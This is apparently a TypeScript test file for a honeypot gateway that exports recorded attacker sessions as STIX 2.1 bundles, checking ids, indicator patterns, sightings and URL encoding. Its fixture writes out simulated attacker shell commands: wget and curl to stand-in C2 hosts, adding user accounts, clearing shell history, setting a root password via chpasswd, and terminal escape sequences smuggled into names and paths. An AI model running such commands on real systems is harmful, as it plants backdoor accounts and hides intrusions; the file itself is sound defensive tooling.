import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import {
  generateDeterministicId,
  generateDomainNameId,
  generateIPv4AddrId,
  generateUrlId,
} from "@security-alliance/stix/2.1";
import ts from "typescript";
import { findRecordings } from "../../../gateway/index/find-recording.ts";
import { Bundle } from "../../../gateway/replay/export/stix/bundle.ts";
import type { StixObject } from "../../../gateway/replay/export/stix/stix-object.ts";
import { readStixSession } from "../../../gateway/replay/export/stix/stix-session.ts";
import { stixUrl } from "../../../gateway/replay/export/stix/stix-url.ts";
import { byteString } from "../../evidence/indicators/byte-string.ts";
import { Conversation, SANDBOX } from "../../evidence/conversation.ts";
import { dataFolder, Live, putCapture } from "../../archivist/folder.ts";

type Whole = Bundle["bundle"];

/** Two sessions, one of which left a program with hostile names; a third from an IPv6 address that only tried. */
async function exported(
  t: Parameters<typeof dataFolder>[0],
  options: ConstructorParameters<typeof Bundle>[0] = {},
) {
  const data = dataFolder(t);
  const first = new Conversation("aaaaaaaaaaaa").login();
  first.exec(
    first.after(500).open(),
    "wget \"http://c2.example.com/it's\"; curl \"http://c2.example.com/\xd1\x84|x'y\"; useradd 'o$\\x'; useradd hax; history -c; echo root:s3cret | chpasswd",
  );
  const second = new Conversation("bbbbbbbbbbbb", "2026-11-23T05:00:00.000000Z").login("\xff\x1b[2J");
  second.exec(second.open(), "curl http://203.0.113.7/a\x1b]0;owned\x07");
  const third = new Conversation("cccccccccccc", "2026-11-23T06:00:00.000000Z").hello();
  third.password("admin", "admin", "refused");
  const [opened] = third.entries;
  if (opened?.type === "fact" && opened.fact.kind === "session-opened")
    third.entries[0] = { ...opened, fact: { ...opened.fact, source: { address: "2001:db8::7", port: 4 } } };
  for (const talk of [first, second, third]) {
    const live = new Live(data, talk.session);
    live.write(talk.entries);
    const folder = await live.finish(talk.after(100).end());
    if (talk !== first) continue;
    const content = Buffer.from("\x7fELF\0http://evil.example.org/gate\0", "latin1");
    const sha256 = createHash("sha256").update(content).digest("hex");
    writeFileSync(join(data, "artifacts", sha256), content);
    putCapture(data, folder, {
      ...{ sandbox: SANDBOX, sessions: [talk.session], source: "192.0.2.7", cut: false },
      takenAt: "2026-11-23T03:00:00.000Z",
      changes: [{ kind: "A", path: "/tmp/\x1b[2J\xff'\n", type: "file", mode: 0o755, size: 34, sha256 }],
    });
  }
  const bundle = new Bundle(options);
  for (const session of ["a", "b", "c"]) {
    const [found] = findRecordings(data, session);
    assert.ok(found);
    const known = await readStixSession(data, found);
    assert.ok(known);
    bundle.add(known);
  }
  return bundle.bundle;
}

function ofType(bundle: Whole, type: string): readonly StixObject[] {
  return bundle.objects.filter((object) => object.type === type);
}

test("a public library's types take the bundle, and refuse a broken one", async (t) => {
  const bundle = await exported(t, { tlp: "green" });
  assert.deepEqual(problemsOf(bundle), []);
  const [object] = bundle.objects;
  const broken = {
    ...bundle,
    id: "bundel--1",
    objects: [
      { ...object, created: 7 },
      { ...ofType(bundle, "indicator")[0], pattern: undefined },
    ],
  } as unknown as Whole;
  assert.equal(problemsOf(broken).length, 3);
});

test("observables have the ids that others give them", async (t) => {
  const bundle = await exported(t);
  const value = (object: StixObject) => String(object["value"]);
  const urls = ofType(bundle, "url");
  assert.ok(urls.length >= 3);
  for (const url of urls) assert.equal(url.id, generateUrlId(value(url)));
  for (const name of ofType(bundle, "domain-name")) assert.equal(name.id, generateDomainNameId(value(name)));
  for (const address of ofType(bundle, "ipv4-addr"))
    assert.equal(address.id, generateIPv4AddrId(value(address)));
  for (const type of ["file", "user-account", "network-traffic", "ipv6-addr"]) {
    const all = ofType(bundle, type);
    assert.ok(all.length > 0, type);
    for (const object of all) {
      const contributing = Object.entries(object).filter(([name]) => !UNNAMED.has(name));
      assert.equal(object.id, generateDeterministicId(type, Object.fromEntries(contributing)));
    }
  }
  // A type without such properties has a UUID of version 4 (section 2.9).
  for (const { id } of ofType(bundle, "process")) assert.match(id, /^process--[0-9a-f]{8}-[0-9a-f]{4}-4/);
});

test("the rules of the specification: ids, times, references, what each type must have", async (t) => {
  const bundle = await exported(t, { tlp: "amber" });
  const ids = new Set(bundle.objects.map(({ id }) => id));
  assert.equal(ids.size, bundle.objects.length);
  for (const object of bundle.objects) {
    const { type, id } = object;
    assert.match(
      id,
      new RegExp(`^${type}--[0-9a-f]{8}-[0-9a-f]{4}-[45][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`),
    );
    for (const name of MUST_HAVE[type] ?? []) assert.ok(object[name] !== undefined, `${type} ${name}`);
    for (const [name, value] of Object.entries(object)) {
      assert.match(name, /^[a-z][a-z0-9_]{1,249}$/);
      if (Array.isArray(value)) assert.ok(value.length > 0, `${type} ${name}`);
      for (const reference of /_refs?$/.test(name) ? [value].flat() : [])
        assert.ok(ids.has(reference as StixObject["id"]), `${type} ${name} ${String(reference)}`);
      if (TIMES.has(name)) assert.match(String(value), /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3,6}Z$/);
    }
    const { created, modified, first_observed, last_observed, first_seen, last_seen } =
      object as unknown as Record<string, string>;
    assert.ok((created ?? "") <= (modified ?? created ?? ""));
    assert.ok((first_observed ?? "") <= (last_observed ?? ""));
    assert.ok((first_seen ?? "") <= (last_seen ?? ""));
  }
  assert.deepEqual(
    [...new Set(bundle.objects.map(({ type }) => type))].sort(),
    Object.keys(MUST_HAVE).sort(),
  );
});

test("patterns are those of what was seen, each quoted so that nothing ends it", async (t) => {
  const bundle = await exported(t);
  const patterns = ofType(bundle, "indicator").map((object) => String(object["pattern"]));
  assert.ok(patterns.includes("[url:value = 'http://c2.example.com/%D1%84%7Cx\\'y']"));
  assert.ok(patterns.includes("[user-account:account_login = 'hax']"));
  assert.ok(patterns.includes("[ipv6-addr:value = '2001:db8::7']"));
  for (const pattern of patterns)
    assert.match(pattern, /^\[[a-z0-9-]+:[a-z_]+(?:\.'[A-Z0-9-]+')? = '(?:[^'\\]|\\['\\])*'\]$/);
  assert.equal(new Set(patterns).size, patterns.length);
});

test("an indicator says how often it was seen, and where; a password that was set is not told", async (t) => {
  const bundle = await exported(t);
  const indicator = ofType(bundle, "indicator").find(
    ({ pattern }) => pattern === "[ipv4-addr:value = '192.0.2.7']",
  );
  const sighting = ofType(bundle, "sighting").find((one) => one["sighting_of_ref"] === indicator?.id);
  assert.equal(sighting?.["count"], 2);
  assert.equal((sighting["observed_data_refs"] as string[]).length, 2);
  assert.equal(sighting["first_seen"], "2026-11-23T02:15:37.223438Z");
  assert.equal(String(sighting["last_seen"]).slice(0, 14), "2026-11-23T05:");
  const notes = ofType(bundle, "note").map((note) => String(note["content"]));
  assert.deepEqual(notes, ["tampering: history -c (what history)\npassword-changed: root"]);
});

test("the same sessions give the same bundle; a bundle of nothing is one, too", async (t) => {
  assert.deepEqual(await exported(t), await exported(t));
  const { objects, id } = new Bundle().bundle;
  assert.deepEqual(objects, []);
  assert.match(id, /^bundle--/);
});

test("URLs become what RFC 3986 allows, and those that are so already stay", () => {
  for (const [given, expected] of [
    ["http://a.example.com/x?y=%20&z=(1)#f", "http://a.example.com/x?y=%20&z=(1)#f"],
    ["http://[2001:db8::7]:80/[x]", "http://[2001:db8::7]:80/%5Bx%5D"],
    ["http://a.example.com/%zz|\xff{}^\\`", "http://a.example.com/%25zz%7C%FF%7B%7D%5E%5C%60"],
  ] as const)
    assert.equal(stixUrl(byteString(given)), expected);
});

const MUST_HAVE: Readonly<Record<string, readonly string[]>> = {
  "marking-definition": ["created", "definition_type", "definition"],
  identity: ["created", "modified", "name", "identity_class"],
  "observed-data": [
    "created",
    "modified",
    "first_observed",
    "last_observed",
    "number_observed",
    "object_refs",
  ],
  indicator: ["created", "modified", "pattern", "pattern_type", "valid_from"],
  relationship: ["created", "modified", "relationship_type", "source_ref", "target_ref"],
  sighting: ["created", "modified", "sighting_of_ref"],
  note: ["created", "modified", "content", "object_refs"],
  "ipv4-addr": ["value"],
  "ipv6-addr": ["value"],
  "domain-name": ["value"],
  url: ["value"],
  file: ["hashes"],
  "user-account": ["account_login"],
  process: ["command_line"],
  "network-traffic": ["protocols", "src_ref"],
};
/** Properties that make no id. */
const UNNAMED = new Set(["id", "type", "spec_version"]);
const TIMES = new Set(
  "created modified valid_from first_observed last_observed first_seen last_seen start end".split(" "),
);

/**
 * What the compiler says of the bundle, written as values of the library's own types. It leaves out properties of several types, so others
 * than it knows pass; those that it knows have to be right.
 */
function problemsOf(bundle: Whole): string[] {
  const typed = bundle.objects.map((object, place) => {
    const named = Object.entries(object).filter(
      ([name]) => NARROW.has(name) || (name === "object_refs" && object.type === "note"),
    );
    return `const o${place}: ${TYPES[object.type] ?? "never"} = { ...${JSON.stringify(object)}, ${named
      .map(([name, value]) => `${name}: ${JSON.stringify(value)}`)
      .join(", ")} };`;
  });
  const names = bundle.objects.map((_, place) => `o${place}`);
  const text = `import type * as stix from "@security-alliance/stix/2.1";
${typed.join("\n")}
export const bundle: stix.StixBundle = { type: ${JSON.stringify(bundle.type)}, id: ${JSON.stringify(bundle.id)}, objects: [${names.join(", ")}] };`;
  const path = join(import.meta.dirname, "a-bundle.ts");
  const options: ts.CompilerOptions = {
    ...{ strict: true, noEmit: true, skipLibCheck: true, types: [] },
    ...{ module: ts.ModuleKind.NodeNext, target: ts.ScriptTarget.ES2024 },
  };
  const host = ts.createCompilerHost(options);
  const [getSourceFile, fileExists] = [host.getSourceFile.bind(host), host.fileExists.bind(host)];
  host.fileExists = (name) => name === path || fileExists(name);
  host.getSourceFile = (name, target) =>
    name === path ? ts.createSourceFile(name, text, target) : getSourceFile(name, target);
  const program = ts.createProgram([path], options, host);
  return ts
    .getPreEmitDiagnostics(program)
    .map(({ messageText }) => ts.flattenDiagnosticMessageText(messageText, "\n"));
}

/** Properties whose types are narrower than a string or a list of strings. */
const NARROW = new Set("type id created_by_ref object_marking_refs definition_type definition".split(" "));
const TYPES: Readonly<Record<string, string>> = {
  "marking-definition": "stix.TLPMarkingDefinition",
  identity: "stix.Identity",
  "observed-data": "stix.ObservedData",
  indicator: "stix.Indicator",
  relationship: "stix.Relationship",
  sighting: "stix.Sighting",
  note: "stix.Note",
  "ipv4-addr": "stix.IPv4Addr",
  "ipv6-addr": "stix.IPv6Addr",
  "domain-name": "stix.DomainName",
  url: "stix.Url",
  file: "stix.File",
  "user-account": "stix.UserAccount",
  process: "stix.Process",
  "network-traffic": "stix.NetworkTraffic",
};
